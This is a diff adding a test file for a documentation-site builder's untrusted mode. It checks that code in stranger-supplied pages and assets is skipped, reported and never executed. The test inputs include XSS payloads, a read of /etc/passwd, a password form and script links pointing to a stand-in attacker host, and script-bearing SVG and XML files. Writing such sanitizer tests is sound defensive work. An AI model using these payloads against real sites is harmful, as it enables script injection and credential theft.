@@ -1,0 +1,110 @@
+// Sites of strangers: none of their code runs, none of it is published, and every page still shows its text.
+
+import { expect, test } from "vitest";
+import { docsJson, testSite } from "./support/site.ts";
+
+const page = (body: string): string => `---\ntitle: A\n---\n\n${body}\n`;
+
+const open = (files: Readonly<Record<string, string | object>>) => testSite(files, { untrusted: true });
+
+test("code is skipped with a problem at its place, and literals, variables and snippets still work", async () => {
+  globalThis.process.env["UNTRUSTED_RAN"] = "no";
+  const run = "{(process.env.UNTRUSTED_RAN = 'yes')}";
+  const site = open({
+    "index.mdx": page(
+      [
+        'import { readFileSync } from "node:fs"\nimport Evil from "./evil.jsx"\nimport Hello from "/snippets/hello.mdx"\nexport const name = "Ada";\nexport const secret = readFileSync("/etc/passwd", "utf8");',
+        `Before {name} ${run} {secret} after.`,
+        '<Evil>Kept.</Evil>\n\n<Hello who="Bo" />\n\n<Card title={name + "!"}>Card.</Card>',
+        "<Note>Shown.</Note>\n\nCall `/users/{id}` and {[1, 2].map((n) => n)}.",
+      ].join("\n\n"),
+    ),
+    "evil.jsx": "export default () => { process.env.UNTRUSTED_RAN = 'yes'; }\n",
+    "snippets/hello.mdx": `Hello {who}. ${run}\n`,
+  });
+  const body = await site.body();
+  for (const text of ["Before Ada", "after.", "Kept.", "Hello Bo.", "Card.", "Shown."]) expect(body).toContain(text);
+  expect(await site.page("/index.md")).toContain("Hello Bo.");
+  expect((await site.problems()).map((line) => line.replace(/ is skipped.*/, ""))).toEqual([
+    'index.mdx:5:1 untrusted/code `import "node:fs"`',
+    'index.mdx:6:1 untrusted/code `import "./evil.jsx"`',
+    "index.mdx:9:1 untrusted/code `export secret`",
+    "index.mdx:11:15 untrusted/code `{(process.env.UNTRUSTED_RAN = 'yes')}`",
+    'index.mdx:17:1 untrusted/code `{name + "!"}`',
+    "index.mdx:21:24 untrusted/code `{[1, 2].map((n) => n)}`",
+    "snippets/hello.mdx:1:14 untrusted/code `{(process.env.UNTRUSTED_RAN = 'yes')}`",
+  ]);
+  expect(process.env["UNTRUSTED_RAN"]).toBe("no");
+  delete process.env["UNTRUSTED_RAN"];
+});
+
+test.each([
+  ["<script>alert(1)</script>"],
+  ['<img src="x.png" onError="alert(1)" />'],
+  ['<img src="x.png" onerror="alert(1)" />'],
+  ['<a href="javascript:alert(1)">x</a>'],
+  ['<a href=" java\tscript:alert(1)">x</a>'],
+  ['<svg><a xlinkHref="javascript:alert(1)"><text>x</text></a></svg>'],
+  ['<svg><set attributeName="href" to="javascript:alert(1)" /></svg>'],
+  ['<iframe src="/files/x.html" />'],
+  ['<iframe srcDoc="<script>alert(1)</script>" src="https://example.com/" />'],
+  ['<object data="/x.html" />'],
+  ['<embed src="/x.html" />'],
+  ['<form action="https://evil.example/"><input name="password" /></form>'],
+  ['<div dangerouslySetInnerHTML={{ __html: "<script>alert(1)</script>" }} />'],
+  ['<button data-lectern-on=\'[["onClick","https://evil.example/x.js","default",{}]]\'>x</button>'],
+  ['<button data-search="https://evil.example/x.js">x</button>'],
+  ['<meta httpEquiv="refresh" content="0;url=https://evil.example/" />'],
+  ['<link rel="stylesheet" href="https://evil.example/x.css" />'],
+  ['<base href="https://evil.example/" />'],
+  ["<lectern-island>x</lectern-island>"],
+  ['<Card title="x" icon={<svg onload="alert(1)"><script>alert(1)</script></svg>}>y</Card>'],
+  ['<Image src="x.png" onload="alert(1)" />'],
+])("%s runs nothing in the browser and is reported", async (body) => {
+  const site = open({ "index.mdx": page(`${body}\n\nAfter.`) });
+  const html = await site.body();
+  expect(html).toContain("After.");
+  expect(html).not.toMatch(
+    /<script|<object|<embed|<form|<meta|<base|<link|<iframe(?! src="https:)|<set|lectern-island|\son\w+=|javascript:|data-lectern-on|evil\.example|srcdoc/i,
+  );
+  expect((await site.problems()).join("\n")).toMatch(/index\.mdx:5:\d+ (?:untrusted|link|component)\//);
+});
+
+test("ordinary HTML stays as it is", async () => {
+  const body =
+    '<div className="mt-4" style={{ color: "red" }}>\n  <img src="https://example.com/a.png" alt="A" />\n  <iframe src="https://www.youtube.com/embed/x" title="V" allow="fullscreen" />\n</div>';
+  const site = open({ "index.mdx": page(body) });
+  const trusted = testSite({ "index.mdx": page(body) });
+  expect(await site.body()).toBe(await trusted.body());
+  expect(await site.problems()).toEqual([]);
+});
+
+test("scripts, host rules, active pictures and services are left out and reported", async () => {
+  const svg = (inside: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
+  const site = open({
+    "docs.json": docsJson({ pages: ["index"] }, { integrations: { gtm: { tagId: "GTM-1" } } }),
+    "index.mdx": page("![](/images/ok.svg) ![](/images/bad.svg)"),
+    "tracker.js": "alert(1)\n",
+    _headers: "/*\n  X-A: b\n",
+    "images/ok.svg": svg('<path d="M0 0"/>'),
+    "images/bad.svg": svg("<script>alert(1)</script>"),
+    "images/handler.svg": svg('<g onclick="alert(1)"/>'),
+    "files/data.xml": '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>',
+  });
+  const files = [...(await site.output.artifacts()).keys()];
+  expect(files).toContain("images/ok.svg");
+  for (const path of ["tracker.js", "images/bad.svg", "images/handler.svg", "files/data.xml"])
+    expect(files).not.toContain(path);
+  expect(await site.page("/_headers")).not.toContain("X-A");
+  expect(await site.page("/")).not.toMatch(/tracker|googletagmanager|services-/);
+  expect(
+    (await site.problems()).filter((line) => line.includes("untrusted/")).map((line) => line.split(" ")[0]),
+  ).toEqual([
+    "_headers:1:1",
+    "docs.json:12:3",
+    "files/data.xml:1:1",
+    "images/bad.svg:1:1",
+    "images/handler.svg:1:1",
+    "tracker.js:1:1",
+  ]);
+});
